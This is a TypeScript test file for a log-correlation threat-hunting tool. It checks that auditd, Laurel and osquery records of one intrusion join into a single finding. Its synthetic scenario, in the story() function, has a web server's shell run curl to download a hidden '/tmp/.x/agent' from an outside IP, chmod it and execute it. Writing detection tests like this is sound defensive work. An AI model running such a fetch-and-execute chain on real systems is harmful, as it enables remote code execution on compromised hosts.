import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { ActedEvent, Finding, Summary } from "@limpid/core";
import { afterAll, describe, expect, it, test } from "vitest";
import { Scene } from "../packages/detect/src/testing/scene.ts";
import { laurelLog } from "../packages/telemetry/src/testing/laurel-log.ts";
import { OsqueryResults } from "../packages/telemetry/src/testing/osquery-results.ts";
import { auditLog } from "./support/audit-log.ts";
import { corpusPath } from "./support/corpus.ts";
import { jsonLines, limpid } from "./support/limpid.ts";

const folder = mkdtempSync(join(tmpdir(), "limpid-several-"));
afterAll(() => rmSync(folder, { recursive: true }));

function file(name: string, text: string): string {
  const path = join(folder, name);
  writeFileSync(path, text);
  return path;
}

function hunt(...args: readonly string[]) {
  const { stdout, stderr } = limpid(["hunt", "--json", ...args]);
  const lines = jsonLines(stdout);
  return {
    findings: lines.slice(0, -1) as unknown as Finding[],
    summary: lines.at(-1) as unknown as Summary,
    stderr,
  };
}

const events = story();
const AUDITD = file("audit.log", auditLog(events));
const LAUREL = file("laurel.json", laurelLog(auditLog(events)));
const OSQUERY = file("osquery.json", osqueryLog(events));

describe("one drop in two logs of a host", () => {
  const [alone] = hunt(AUDITD, "--host", "web-3").findings;

  it.each([
    ["audit.log laurel.json", [AUDITD, LAUREL, "--host", "web-3"]],
    ["laurel.json audit.log", [LAUREL, AUDITD, "--host", "web-3"]],
    ["audit.log osquery.json", [AUDITD, OSQUERY]],
    ["osquery.json audit.log", [OSQUERY, AUDITD]],
    ["all three", [OSQUERY, LAUREL, AUDITD]],
  ])("%s: one finding, the one that the audit log alone gives", (_name, args) => {
    const { findings, summary } = hunt(...args);
    expect(findings.map(({ id, priority, executions }) => [id, priority, executions.length])).toEqual([
      [alone?.id, alone?.priority, 1],
    ]);
    expect(findings[0]?.creator.argv).toEqual(alone?.creator.argv);
    expect(summary.joined?.again).toBeGreaterThan(5);
    const { linesRead, recordsUsed, ignored, skipped } = summary;
    const sum = (counts: Readonly<Record<string, number>>) =>
      Object.values(counts).reduce((one, more) => one + more, 0);
    expect(linesRead).toBe(recordsUsed + sum(ignored) + sum(skipped));
  });

  it("the order on the command line changes nothing", () => {
    expect(hunt(OSQUERY, AUDITD, LAUREL)).toEqual(hunt(AUDITD, LAUREL, OSQUERY));
  });

  it("a log that names no host is taken to be of the one that the others name, and that is said", () => {
    expect(hunt(AUDITD, OSQUERY).stderr).toContain("audit.log names no host: taken to be web-3");
    const other = file("other.json", osqueryLog(events, "db-1"));
    expect(hunt(AUDITD, other).findings[0]?.host).toBe("db-1");
  });

  it("one source alone is not joined with anything", () => {
    expect(hunt(AUDITD).summary.joined).toBeUndefined();
  });
});

const RECORDED = corpusPath("telemetry", "laurel");

describe.skipIf(RECORDED === undefined)("one record, as the kernel wrote it and as Laurel did", () => {
  test.each([["execve"], ["execve-long"], ["login"]])("laurel_record-%s", (name) => {
    const raw = corpusPath("telemetry", "auditd", `laurel_record-${name}.txt`) ?? "";
    const json = corpusPath("telemetry", "laurel", `laurel_record-${name}.json`) ?? "";
    const { joined } = hunt(raw, json, "--host", "h").summary;
    expect(joined).toMatchObject({ again: 1, disputed: 0, late: 0, early: 0 });
  });
});

function story(): readonly ActedEvent[] {
  const scene = new Scene();
  const server = scene.wait(120).process({ image: "/usr/sbin/nginx" });
  const shell = server.fork().exec("/usr/bin/dash", ["sh", "-c", "curl -o /tmp/.x/agent http://203.0.113.7/a"]);
  const curl = shell.fork();
  scene.wait(40);
  curl.exec("/usr/bin/curl", "curl -o /tmp/.x/agent http://203.0.113.7/a").create("/tmp/.x/agent").exit();
  scene.wait(400);
  shell.fork().exec("/usr/bin/chmod", "chmod +x /tmp/.x/agent").chmod("/tmp/.x/agent").exit();
  scene.wait(700);
  shell.fork().exec("/tmp/.x/agent").exit();
  return scene.events;
}

/** As an agent's schedule would log it: each table by itself, times in whole seconds. */
function osqueryLog(told: readonly ActedEvent[], host = "web-3"): string {
  const results = new OsqueryResults({ host });
  for (const event of told) {
    results.now = Math.floor(event.at / 1000);
    const { pid, ppid, image = "" } = event.process;
    if (event.kind === "process.executed") {
      const line = event.argv.map((argument) => (argument.includes(" ") ? `"${argument}"` : argument)).join(" ");
      results.row("processes", results.processEvent(pid, ppid ?? "", image, line, { auid: 4294967295 }));
    } else if (event.kind === "process.forked") {
      results.row(
        "processes",
        results.processEvent(event.child, pid, image, "", { syscall: "fork", auid: 4294967295 }),
      );
    } else if (event.kind === "file.opened") {
      const row = results.processFileEvent(pid, image, "write", event.file.path ?? "", "", { ppid: ppid ?? "" });
      results.row("files", { ...row, auid: 4294967295 });
    }
  }
  return results.log;
}
